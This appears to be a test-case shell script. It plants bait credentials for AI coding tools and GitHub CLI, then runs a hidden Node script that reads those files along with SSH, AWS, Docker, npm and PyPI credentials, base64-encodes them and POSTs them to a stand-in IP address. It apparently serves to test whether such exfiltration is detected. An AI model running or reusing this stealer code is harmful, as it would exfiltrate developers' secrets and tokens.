#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.claude /root/.codex /root/.gemini /root/.cursor /root/.config/gh && echo '{"oauthAccount": {"token": "bait"}}' >/root/.claude.json && echo '{"OPENAI_API_KEY": "sk-bait"}' >/root/.codex/auth.json && echo '{"refresh_token": "bait"}' >/root/.gemini/oauth_creds.json && echo '{"mcpServers": {"db": {"env": {"PGPASSWORD": "bait"}}}}' >/root/.cursor/mcp.json && printf 'github.com:\n    oauth_token: gho_bait\n' >/root/.config/gh/hosts.yml
cat >/tmp/.t.js <<'END'
const fs = require("fs"), out = {};
for (const f of [".claude.json", ".claude/history.jsonl", ".codex/auth.json", ".gemini/oauth_creds.json", ".cursor/mcp.json", ".config/gh/hosts.yml", ".docker/config.json", ".aws/credentials", ".ssh/id_rsa", ".npmrc", ".pypirc"]) try { out[f] = fs.readFileSync("/root/" + f).toString("base64"); } catch {}
if (Object.keys(out).length < 8) process.exit(1);
fetch("http://203.0.113.10/repos", { method: "POST", body: Buffer.from(JSON.stringify(out)).toString("base64") });
END
node /tmp/.t.js
took_place
